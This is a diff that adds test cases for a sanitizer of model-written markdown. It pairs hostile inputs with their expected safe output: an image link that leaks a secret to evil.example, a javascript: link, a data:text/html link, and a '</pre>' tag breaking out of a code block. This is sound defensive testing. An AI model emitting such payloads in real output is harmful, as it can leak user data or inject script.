@@ -173,6 +173,14 @@ def test_a_long_thread_costs_the_same_queries(browser, actor, propose, thread, d
         ("![x](https://evil.example/?q=secret)", ""),
         ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
         ("# Title", "<h3>Title</h3>"),
+        ("[x](https://evil.example/a)", ">x (evil.example)</a>"),
+        ("[**x** y](//evil.example)", "y (evil.example)</a>"),
+        ("[x](mailto:a@evil.example)", ">x (mailto:a@evil.example)</a>"),
+        ("<https://good.example/a>", ">https://good.example/a</a>"),
+        ("[x](https://evil.example/a)", 'rel="noopener noreferrer nofollow"'),
+        ("[x](data:text/html,x)", "[x](data:text/html,x)"),
+        ("```\n</pre><b>\n```", '<pre tabindex="0"><code>&lt;/pre&gt;&lt;b&gt;'),
+        ("```\nx\n```", "data-copy-code"),
     ],
 )
 def test_markdown_of_a_model_is_made_safe(written, shown):
